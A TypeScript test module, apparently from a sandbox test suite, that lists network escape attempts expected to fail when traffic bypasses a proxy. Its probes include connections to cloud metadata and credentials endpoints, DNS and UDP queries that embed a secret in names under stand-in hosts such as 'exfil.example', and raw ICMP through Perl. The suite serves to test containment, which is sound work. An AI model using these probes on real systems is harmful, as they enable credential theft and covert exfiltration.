/** Every way to the network that does not ask the proxy. */
import { execFile } from 'node:child_process'
import { lookup, Resolver } from 'node:dns/promises'
import { promisify } from 'node:util'
import type { Attempt, Facts } from './attempt.ts'
import { perl } from './kernel.ts'
import { mustFail } from './must-fail.ts'
import { datagram, dnsQuestion, talk } from './network.ts'

/** What a network that is not there answers with. */
const NOWHERE = [
  ...['ENETUNREACH', 'EHOSTUNREACH', 'ECONNREFUSED', 'EADDRNOTAVAIL', 'ETIMEDOUT'],
  ...['EAI_AGAIN', 'ENOTFOUND'],
]

/** In mode bridge the network is open by choice: there only the host's own loopback is out of bounds. */
export function egressAttempts(facts: Facts): Attempt[] {
  const { addresses, ports, neighbour, secret } = facts
  const every = addresses.map((address, at) => ({ address, at: at + 1 }))
  const guarded = every.map(({ address, at }) =>
    tcp(`tcp-host-loopback-at-${at}`, "a listener on the host's 127.0.0.1", address, ports.loopback),
  )
  const phone = every.map(({ address, at }) =>
    tcp(`tcp-phone-at-${at}`, 'the phone door', address, ports.phone),
  )
  const loopback = [
    tcp('tcp-host-loopback', "a listener on the host's 127.0.0.1", '127.0.0.1', ports.loopback),
    tcp('tcp-host-loopback-6', "a listener on the host's ::1", '::1', ports.loopback),
    tcp('tcp-phone', "the phone door on the host's 127.0.0.1", '127.0.0.1', ports.phone),
    udp('udp-host-loopback', "a listener on the host's 127.0.0.1", '127.0.0.1', ports.udp, secret),
  ]
  if (facts.mode === 'bridge') return [...guarded, ...phone, ...loopback]
  return [
    tcp('tcp-internet-4', 'an IPv4 address of the internet', '1.1.1.1', 443),
    tcp('tcp-internet-6', 'an IPv6 address of the internet', '2606:4700:4700::1111', 443),
    tcp('tcp-metadata', 'the metadata service of clouds', '169.254.169.254', 80),
    tcp('tcp-metadata-6', 'the metadata service of clouds', 'fd00:ec2::254', 80),
    tcp('tcp-metadata-task', 'the credentials service of container clouds', '169.254.170.2', 80),
    ...every.map(({ address, at }) =>
      tcp(`tcp-host-${at}`, 'a listener of the host on all addresses', address, ports.everywhere),
    ),
    tcp('tcp-host-zero', 'a listener of the host', '0.0.0.0', ports.everywhere),
    tcp('tcp-neighbour', 'another container', neighbour.address, neighbour.port),
    ...guarded,
    ...loopback,
    ...every.map(({ address, at }) => udp(`udp-host-${at}`, 'the host', address, ports.udp, secret)),
    udp('udp-broadcast', 'everybody on the wire', '255.255.255.255', ports.udp, secret),
    ...names(secret),
    attempt('icmp-raw', 'an ICMP echo through a raw socket', () => perl(ping(3))),
    attempt('icmp-ping', 'an ICMP echo through an unprivileged ping socket', () => perl(ping(2))),
  ]
}

function names(secret: string): Attempt[] {
  return [
    udp('dns-udp', 'a DNS server of the internet', '1.1.1.1', 53, secret),
    udp('dns-docker', "Docker's own DNS server", '127.0.0.11', 53, secret),
    udp('dns-stub', "the host's stub resolver", '127.0.0.53', 53, secret),
    udp('dns-multicast', 'all multicast DNS servers', '224.0.0.251', 5353, secret),
    tcp('dns-tcp', 'a DNS server of the internet', '1.1.1.1', 53),
    attempt('dns-getaddrinfo', 'a name with a secret in it, through getaddrinfo', () =>
      lookup(`${secret}.example.com`).then(({ address }) => address),
    ),
    attempt('dns-txt', 'a TXT record, from the servers of /etc/resolv.conf', () =>
      new Resolver({ timeout: 500, tries: 1 }).resolveTxt(`${secret}.example.com`).then(String),
    ),
    attempt('dns-getent', 'a name, through getent hosts', () => getent('example.com')),
  ]
}

function attempt(id: string, tried: string, deed: () => unknown | Promise<unknown>): Attempt {
  return { id, group: 'egress past the proxy', tried, run: () => mustFail(deed, NOWHERE) }
}

function tcp(id: string, what: string, host: string, port: number): Attempt {
  return attempt(id, `TCP to ${what}: ${host}, port ${port}`, async () => {
    await talk({ host, port })
    return 'the connection was made'
  })
}

function udp(id: string, what: string, host: string, port: number, secret: string): Attempt {
  return attempt(id, `UDP to ${what}: ${host}, port ${port}`, async () => {
    await datagram(host, port, dnsQuestion(`${secret}.exfil.example`))
    return 'an answer came back'
  })
}

async function getent(name: string): Promise<string> {
  try {
    return (await promisify(execFile)('getent', ['hosts', name])).stdout
  } catch (error) {
    // getent(1): 2 is "one or more supplied key could not be found in the database".
    const { code, message } = error as { code?: unknown; message: string }
    throw code === 2
      ? Object.assign(new Error('getent found nothing'), { code: 'ENOTFOUND' })
      : new Error(message)
  }
}

/** socket(AF_INET, type, IPPROTO_ICMP), then an echo request to 1.1.1.1. */
function ping(type: 2 | 3): string {
  return `my $s; socket($s, 2, ${type}, 1)
    && defined send($s, pack("C2n3", 8, 0, 0xf7fd, 1, 1), 0, pack("Sna4x8", 2, 0, pack("C4", 1, 1, 1, 1))) ? 0 : -1`
}
